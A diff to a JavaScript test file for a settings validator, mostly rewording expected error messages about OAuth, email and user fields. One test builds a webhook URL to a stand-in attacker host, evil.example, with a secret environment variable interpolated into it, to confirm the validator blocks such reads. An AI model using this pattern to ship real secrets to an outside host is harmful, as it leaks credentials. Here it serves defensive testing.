@@ -93,9 +93,9 @@ users: [{ name: Ada, password: "\${E2E_PASSWORD}" }, { email: nobody }]
       '`oauth_providers.google` must be one of shared, absent; found a text (not shown)',
       '`oauth_providers.gitlab` is not a known setting; did you mean `github`?',
       '`oauth_providers.github.client_secret` is missing',
-      '`email_provider.host` does not go with `type: shared`',
+      '`email_provider.host` is not allowed with `type: shared`',
       '`allow_localhost` must be true or false; found the text "yes"',
-      '`users[0].password` needs ${E2E_PASSWORD}, which is not set or empty',
+      '`users[0].password` needs ${E2E_PASSWORD}, which is unset or empty',
       '`users[0].email` is missing',
       '`users[1].email` is not an address: it needs exactly one `@`',
     ]) {
@@ -112,7 +112,7 @@ users: [{ name: Ada, password: "\${E2E_PASSWORD}" }, { email: nobody }]
     }
     for (const name of Object.keys(env)) {
       const text = `webhook: { enabled: true, webhook_url: "https://evil.example/\${${name}}" }`
-      expect(faultsOf(text, env)).toMatch(/which no settings file may read/)
+      expect(faultsOf(text, env)).toMatch(/which settings files must not read/)
     }
   })
 
